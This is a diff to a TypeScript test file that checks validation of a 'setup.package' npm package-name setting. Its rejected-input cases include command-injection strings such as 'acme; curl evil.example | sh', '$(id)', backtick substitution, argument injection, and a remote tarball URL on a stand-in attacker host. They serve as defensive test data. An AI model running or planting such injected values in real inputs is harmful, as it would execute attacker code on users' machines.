@@ -3,6 +3,7 @@ import { makeKeyPair } from '../../../shared/keys/key-pair.ts'
 import { Secrets, Settings } from '../../../shared/settings/settings.ts'
 import { unknownSetting } from '../../../shared/settings/unknown-setting.ts'
 
+const packageRule = 'must be the name of an npm package, such as @example/carrel or @example/carrel@2.0.0'
 const one = makeKeyPair()
 const two = makeKeyPair()
 
@@ -26,6 +27,8 @@ describe('a setting', () => {
     ['mcp.allowedOrigins', 'https://a.example, http://localhost:6274', ['https://a.example', 'http://localhost:6274']],
     ['mcp.allowedOrigins', ['https://a.example'], ['https://a.example']],
     ['mcp.allowedOrigins', '', []],
+    ['setup.package', '@acme/carrel@2.0.0-rc.1', '@acme/carrel@2.0.0-rc.1'],
+    ['setup.package', 'acme-docs', 'acme-docs'],
     ['bundle.trustedKeys', one.publicPem + two.publicPem, [one.publicPem.trim(), two.publicPem.trim()]],
     ['bundle.trustedKeys', [one.publicPem], [one.publicPem.trim()]],
     ['github.token', ' ghp_0123456789\n', 'ghp_0123456789'],
@@ -53,6 +56,20 @@ describe('a setting', () => {
     ['mcp.allowedOrigins', '*', 'must be origins such as https://app.example.com, separated by commas'],
     ['mcp.allowedOrigins', 'https://a.example/path', 'must be origins such as https://app.example.com, separated by commas'],
     ['mcp.allowedOrigins', [7], 'must be origins such as https://app.example.com, separated by commas'],
+    ['setup.package', 'acme docs', packageRule],
+    ['setup.package', 'acme; curl evil.example | sh', packageRule],
+    ['setup.package', '$(id)', packageRule],
+    ['setup.package', '--package=evil', packageRule],
+    ['setup.package', 'Acme', packageRule],
+    ['setup.package', '@acme', packageRule],
+    ['setup.package', '@acme/', packageRule],
+    ['setup.package', 'acme@', packageRule],
+    ['setup.package', 'acme@^1 || 2', packageRule],
+    ['setup.package', 'https://evil.example/x.tgz', packageRule],
+    ['setup.package', '../carrel', packageRule],
+    ['setup.package', 'a`id`', packageRule],
+    ['setup.package', 'acme\nevil', packageRule],
+    ['setup.package', '', packageRule],
     ['bundle.trustedKeys', 'hello', 'must be Ed25519 public keys in PEM, not private keys'],
     ['bundle.trustedKeys', one.privatePem, 'must be Ed25519 public keys in PEM, not private keys'],
     ['github.token', '', 'must not be empty'],
